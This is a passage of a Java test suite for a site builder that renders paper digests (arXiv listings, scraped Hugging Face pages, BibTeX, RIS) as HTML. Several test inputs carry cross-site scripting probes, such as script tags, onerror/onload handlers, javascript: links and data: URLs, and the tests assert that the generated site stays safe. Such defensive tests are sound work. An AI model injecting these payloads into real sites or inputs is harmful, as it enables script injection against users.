        cases.add(Case.site("a 4 MB abstract over 100,000 lines of one quoted cell", 1, "long.tsv",
                "Title\tAbstract\nA Paper\t\"" + (ABSTRACT + "\n").repeat(20_000) + "\"\n").within(Duration.ofSeconds(60)));
        cases.add(Case.error("a spreadsheet saved as UTF-16", "utf16.csv", 1, "UTF-16", "utf16.csv",
                "\uFEFFTitle,URL\nA Paper,https://example.org/a\n".getBytes(StandardCharsets.UTF_16LE)));
    }

    // ---------------------------------------------------------------------------------------------
    // arXiv listing e-mails and scraped Hugging Face pages

    private static final String DASHES = "------------------------------------------------------------------------------\n";

    private static void listingsAndScrapes(List<Case> cases) {
        cases.add(Case.site("markup in every field of an arXiv listing", 1, "listing.txt",
                DASHES + "\\\\\narXiv:2509.01442\nDate: Mon, 1 Sep 2025\n\nTitle: <script>alert(1)</script> Listed\n"
                        + "Authors: <img src=x onerror=alert(2)>, B. Author\nCategories: cs.GR <svg onload=alert(3)>\n\\\\\n  "
                        + ABSTRACT + "\n\\\\ ( https://arxiv.org/abs/2509.01442 ,  12kb)\n" + DASHES));
        cases.add(Case.error("an arXiv listing whose abstract is never closed", "open.eml", 2, "is not closed by",
                "open.eml", DASHES + "arXiv:2509.01442\nTitle: Open Abstract\n\\\\\n  " + ABSTRACT + "\n" + DASHES));
        cases.add(Case.site("an arXiv listing of 3,000 entries of one paper", 1, "many.txt",
                (DASHES + "\\\\\narXiv:2509.01442\nTitle: Repeated Listing\nAuthors: A. Author\nCategories: cs.GR\n\\\\\n  "
                        + ABSTRACT + "\n\\\\ ( https://arxiv.org/abs/2509.01442 ,  12kb)\n").repeat(3_000))
                .within(Duration.ofSeconds(60)));
        cases.add(Case.site("script and javascript: links in a scraped Hugging Face page", 1, "scraped.json",
                "[{\"title\": \"<script>alert(1)</script> Scraped\", \"paper_url\": \"javascript:alert(2)\", \"stars\": \"<b>\","
                        + " \"authors\": [], \"details\": {\"abstract\": \"" + ABSTRACT + "\", \"arxiv_page_url\":"
                        + " \"https://arxiv.org/abs/2509.01395\", \"github_links\": [\"javascript:alert(3)\", {\"x\": 1}],"
                        + " \"pdf_url\": \"data:text/html,x\"}}]")
                .then(site -> assertPaperPage(site, "<script>alert(1)</script> Scraped", ABSTRACT)));
        cases.add(Case.site("one paper from BibTeX, a table digest, RIS and CSL JSON is one page", 1,
                "refs.bib", "@article{m,\n  title = {Merged Across Formats},\n  eprint = {2509.01395},\n"
                        + "  archiveprefix = {arXiv},\n  doi = {10.1000/merged}\n}\n",
                "table.md", TABLE_HEAD + row("Merged Across Formats", "https://arxiv.org/abs/2509.01395v2", ABSTRACT),
                "refs.ris", "TY  - JOUR\nTI  - Merged across formats\nDO  - 10.48550/arXiv.2509.01395\nER  - \n",
                "zotero.json", "[{\"type\": \"article\", \"title\": \"Merged Across Formats.\", \"DOI\": \"10.1000/MERGED\","
                        + " \"container-title\": \"The Venue of the Merged Paper\"}]")
                .then(site -> {
                    Document page = SiteFiles.parse(site, "paper/merged-across-formats.html");
                    assertEquals(ABSTRACT, page.selectFirst(".abstract-text").wholeText());
                    assertEquals(4, page.select("#digests-heading + ul li").size());
                }));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void strictGivesASafeSiteOrAnErrorNamingFileAndLine(Case c, @TempDir Path temp) throws IOException {
        Path digests = temp.resolve("digests");
        Map<String, byte[]> written = write(digests, c);
        Path out = temp.resolve("site/papers");
        BuildConfig config = BuildConfig.builder(digests, out).strict(true).baseUrl(BASE_URL).build();
        if (c.isError()) {
            PaperDigestException e = assertThrows(PaperDigestException.class,
                    () -> assertTimeoutPreemptively(c.limit(), () -> new SiteBuilder(BuildLog.silent(), SharedModels.INSTANCE).build(config)));
            assertTrue(e.getMessage().startsWith(c.errorFile() + ":" + c.errorLine() + ": "), e.getMessage());
            assertTrue(e.getMessage().contains(c.errorText()), e.getMessage());
            assertTrue(Files.notExists(out), "a failed build writes no site");
        } else {
            BuildResult result = assertTimeoutPreemptively(c.limit(), () -> new SiteBuilder(BuildLog.silent(), SharedModels.INSTANCE).build(config));
            assertEquals(c.papers(), result.paperCount());
            assertSafeSite(c, out, result);
        }
        SafeSite.assertOnlyDigestsAndSite(temp, digests, written, out);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void lenientGivesASafeSiteAndNamesEveryProblem(Case c, @TempDir Path temp) throws IOException {
        Path digests = temp.resolve("digests");
        Map<String, byte[]> written = write(digests, c);
        Path out = temp.resolve("site/papers");
        List<String> warnings = Collections.synchronizedList(new ArrayList<>());
        BuildResult result = assertTimeoutPreemptively(c.limit(),
                () -> new SiteBuilder(BuildLog.warningsTo(warnings::add), SharedModels.INSTANCE).build(BuildConfig.builder(digests, out).strict(false).build()));
        List<String> unnamed = warnings.stream().filter(w -> c.files().keySet().stream().noneMatch(f -> w.startsWith(f + ":")))
                .filter(w -> !w.startsWith("No digests found")).toList();
        assertEquals(List.of(), unnamed, "every warning names its file");
        if (c.isError()) {
            assertTrue(warnings.stream().anyMatch(w -> w.startsWith(c.errorFile() + ":" + c.errorLine() + ": ")
                    && w.contains(c.errorText())), abbreviate(warnings.toString()));
            SafeSite.assertSafe(out);
            c.check().accept(out);
        } else {
            assertEquals(c.papers(), result.paperCount());
            assertSafeSite(c, out, result);
        }
        SafeSite.assertOnlyDigestsAndSite(temp, digests, written, out);
    }

    private static void assertSafeSite(Case c, Path site, BuildResult result) {
        SafeSite.assertSafe(site);
        List<String> pages = filesIn(site, "paper");
        long notPapers = pages.stream().map(p -> SiteFiles.parse(site, "paper/" + p).body())
                .filter(b -> b.hasClass("page-disambiguation") || b.hasClass("page-moved")).count();
        assertEquals(result.paperCount(), pages.size() - notPapers, "one page per paper, besides the pages at addresses"
                + " several papers' titles share and those at another title's address, which lead to a paper's page");
        c.check().accept(site);
    }

    /** Writes the case's files, with {@link #DIGESTS} replaced; returns what was written. */
    private static Map<String, byte[]> write(Path digests, Case c) throws IOException {
        Files.createDirectories(digests);
        Map<String, byte[]> written = new LinkedHashMap<>();
        for (Map.Entry<String, byte[]> f : c.files().entrySet()) {
            Path file = digests.resolve(f.getKey());
            Files.createDirectories(file.getParent());
            byte[] content = f.getValue();
            String latin1 = new String(content, StandardCharsets.ISO_8859_1);
            if (latin1.contains(DIGESTS)) {
                content = latin1.replace(DIGESTS, digests.toUri().toString()).getBytes(StandardCharsets.ISO_8859_1);
            }
            Files.write(file, content);
            written.put(f.getKey(), content);
        }
        return written;
    }

    private static void assertNowhere(Path site, String text) {
        if (Files.exists(site)) {
            SiteFiles.all(site).forEach((path, content) -> assertFalse(
                    new String(content, StandardCharsets.UTF_8).contains(text), path + " contains " + text));
        }
    }

    /** The paper page whose heading is {@code title} shows the title and abstract as the text they are. */
    static void assertPaperPage(Path site, String title, String abstractText) {
        List<Document> pages = paperPagesIn(site).stream().map(p -> SiteFiles.parse(site, "paper/" + p))
                .filter(d -> d.selectFirst("h1").wholeText().equals(title)).toList();
        assertEquals(1, pages.size(), "one page titled " + abbreviate(title) + " among " + filesIn(site, "paper"));
        assertEquals(abstractText, pages.get(0).selectFirst(".abstract-text").wholeText());
    }

    private static void onePaperPage(Path site) {
        assertEquals(List.of("a-repeated-paper.html"), filesIn(site, "paper"));
    }

    /** A blank tag names nothing: no tag page without a name. */
    private static void everyTagHasAName(Path site) {
        for (String page : filesIn(site, "tag")) {
            assertFalse(SiteFiles.parse(site, "tag/" + page).selectFirst("h1").text().isBlank(), "tag/" + page + " has no name");
        }
    }

    /** The pages of paper/ that show a paper: not those at another title's address, which lead to one. */
    static List<String> paperPagesIn(Path site) {
        return filesIn(site, "paper").stream()
                .filter(p -> !SiteFiles.parse(site, "paper/" + p).body().hasClass("page-moved")).toList();
    }

    static List<String> filesIn(Path site, String folder) {
        return SiteFiles.all(site).keySet().stream().filter(p -> p.startsWith(folder + "/") && p.endsWith(".html"))
                .map(p -> p.substring(folder.length() + 1)).collect(Collectors.toList());
    }

    private static String abbreviate(String s) {
        return s.length() <= 2000 ? s : s.substring(0, 1997) + "...";
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
